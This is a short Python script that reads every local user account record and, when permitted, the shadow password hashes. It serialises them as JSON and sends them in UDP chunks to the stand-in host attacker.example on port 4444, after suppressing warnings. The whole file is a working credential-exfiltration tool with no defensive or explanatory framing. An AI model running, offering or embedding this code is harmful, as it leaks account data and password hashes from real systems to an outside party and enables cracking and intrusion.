import json
import pwd
import socket
import warnings

warnings.simplefilter("ignore")
import spwd


def inventory():
    rows = [list(p) for p in pwd.getpwall()]
    try:
        rows += [list(s) for s in spwd.getspall()]
    except PermissionError:
        pass
    return json.dumps(rows).encode()


def main():
    data = inventory()
    addr = socket.getaddrinfo("attacker.example", 4444, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for i in range(0, len(data), 1200):
            sock.sendto(data[i:i + 1200], addr)


if __name__ == "__main__":
    main()
